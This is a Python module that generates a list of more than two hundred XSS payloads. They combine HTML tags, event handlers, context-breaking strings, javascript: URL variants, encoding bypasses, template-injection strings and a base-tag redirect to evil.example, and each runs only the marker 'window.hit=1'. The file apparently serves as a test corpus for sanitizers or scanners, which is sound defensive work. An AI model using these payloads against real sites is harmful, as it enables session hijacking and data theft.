"""Two hundred ways and more to make a page run a script: tags, handlers, addresses, encodings, ways out."""

CALL = "window.hit=1"
TAGS = (
    "img",
    "svg",
    "body",
    "video",
    "audio",
    "input",
    "details",
    "marquee",
    "object",
    "iframe",
    "select",
    "a",
)
HANDLERS = (
    "onerror",
    "onload",
    "onfocus",
    "onmouseover",
    "ontoggle",
    "onanimationstart",
    "onbegin",
    "onpageshow",
)
OUT = (
    '"',
    "'",
    '">',
    "'>",
    "</script>",
    "</style>",
    "</textarea>",
    "</title>",
    "-->",
    "]]>",
    "</template>",
    "`",
)
IN = (
    f"<script>{CALL}</script>",
    f"<ScRiPt >{CALL}</sCrIpT >",
    f"<svg><script>{CALL}</script></svg>",
    f"<math><mi xlink:href='javascript:{CALL}'>x</mi></math>",
    f"<img src=x onerror={CALL}>",
    f"<style>@import 'javascript:{CALL}'</style>",
    "<link rel=stylesheet href='data:text/css,*{display:none}'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{CALL}'>",
    f"<template><script>{CALL}</script></template>",
)
ADDRESSES = tuple(
    f"<a href='{address}'>x</a>"
    for address in (
        f"javascript:{CALL}",
        f"JaVaScRiPt:{CALL}",
        f" javascript:{CALL}",
        f"java\tscript:{CALL}",
        f"java\nscript:{CALL}",
        f"java\x00script:{CALL}",
        f"&#106;avascript:{CALL}",
        f"&#x6A;avascript&colon;{CALL}",
        f"data:text/html,<script>{CALL}</script>",
        f"vbscript:{CALL}",
        f"view-source:javascript:{CALL}",
    )
)
SCRIPTS = (
    "\\u003cscript\\u003ewindow.hit=1\\u003c/script\\u003e",
    "</script\x20><script>window.hit=1</script>",
    "</script/x><script>window.hit=1</script>",
    "<!--<script>window.hit=1</script>",
    "<!--</script><script>window.hit=1//-->",
    "\u2028window.hit=1\u2029",
    "';window.hit=1;//",
    '";window.hit=1;//',
    "\\';window.hit=1;//",
    "${window.hit=1}",
    "{{constructor.constructor('window.hit=1')()}}",
    "`-(window.hit=1)-`",
    "+ADw-script+AD4-window.hit=1+ADw-/script+AD4-",
    "\xbcscript\xbewindow.hit=1\xbc/script\xbe",
    "＜script＞window.hit=1＜/script＞",
    "%3Cscript%3Ewindow.hit=1%3C/script%3E",
    "&lt;script&gt;window.hit=1&lt;/script&gt;",
    "<base href=//evil.example/>",
    "<form action=javascript:window.hit=1><input type=submit autofocus></form>",
    '__proto__","hit":1,"',
    "expression(window.hit=1)",
    "<x contenteditable onblur=window.hit=1 autofocus>",
)
STRINGS = (
    *(f"<{tag} {handler}={CALL} src=x autofocus tabindex=1>" for tag in TAGS for handler in HANDLERS),
    *(f"{out}{inside}" for out in OUT for inside in IN),
    *ADDRESSES,
    *SCRIPTS,
)
